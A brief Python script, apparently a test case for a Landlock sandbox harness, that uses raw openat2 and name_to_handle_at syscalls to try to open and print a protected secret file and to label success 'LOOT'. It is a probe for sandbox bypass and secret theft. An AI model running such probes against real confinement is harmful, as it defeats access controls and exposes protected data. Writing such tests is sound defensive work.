"""Opens files by handle and by openat2, which take no path that Landlock would see twice.

most: 0
control: yes
"""

import ctypes, os, platform, struct
from known import SECRET

libc = ctypes.CDLL(None, use_errno=True)
how = struct.pack('QQQ', os.O_RDONLY, 0, 0)
fd = libc.syscall(437, -100, SECRET.encode(), how, len(how))
if fd >= 0:
    print(os.read(fd, 99).decode())
handle = ctypes.create_string_buffer(struct.pack('Ii', 128, 0) + bytes(128))
mount = ctypes.c_int()
to_handle, by_handle = (303, 304) if platform.machine() == 'x86_64' else (264, 265)
if libc.syscall(to_handle, -100, SECRET.encode(), handle, ctypes.byref(mount), 0) == 0:
    print('LOOT handle')
